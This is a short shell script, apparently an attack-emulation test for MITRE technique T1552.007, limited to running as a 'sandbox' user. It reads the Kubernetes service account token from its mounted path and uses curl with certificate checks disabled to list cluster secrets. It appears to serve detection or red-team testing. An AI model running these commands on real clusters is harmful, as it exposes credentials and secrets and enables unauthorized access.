#!/bin/sh
# technique: T1552.007
# needs: curl
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cat /var/run/secrets/kubernetes.io/serviceaccount/token; curl -sk -m 3 https://kubernetes.default.svc/api/v1/secrets
